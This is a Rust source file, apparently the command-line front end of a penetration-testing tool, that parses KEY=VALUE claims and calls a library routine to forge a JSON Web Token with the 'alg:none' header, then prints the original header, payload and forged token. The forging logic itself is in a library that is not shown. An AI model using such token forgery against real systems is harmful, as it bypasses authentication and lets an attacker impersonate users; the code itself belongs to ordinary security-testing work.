use anyhow::anyhow;
use serde_json::Value;

use feint_core::jwt;

use crate::cli::args::JwtArgs;
use crate::exit_codes;

pub fn run(args: JwtArgs) -> anyhow::Result<i32> {
    let extra = parse_claims(&args.claims)?;

    let forged = match jwt::forge_alg_none(&args.token, &extra) {
        Ok(forged) => forged,
        Err(e) => {
            eprintln!("[!] {e}");
            return Ok(exit_codes::FAILURE);
        }
    };

    println!("[*] Original header:");
    println!("{}", serde_json::to_string_pretty(&forged.original_header)?);
    println!("[*] Original payload:");
    println!("{}", serde_json::to_string_pretty(&forged.original_payload)?);
    println!();
    println!("[+] Forged JWT with alg:none:");
    println!("{}", forged.token);

    Ok(exit_codes::SUCCESS)
}

fn parse_claims(pairs: &[String]) -> anyhow::Result<Vec<(String, Value)>> {
    pairs
        .iter()
        .map(|pair| {
            let (key, raw) = pair
                .split_once('=')
                .ok_or_else(|| anyhow!("--claim expects KEY=VALUE, got {pair:?}"))?;
            // A value that parses as JSON (number, bool, quoted string, ...)
            // is kept typed; anything else is a bare string.
            let value = serde_json::from_str(raw).unwrap_or_else(|_| Value::from(raw));
            Ok((key.to_string(), value))
        })
        .collect()
}
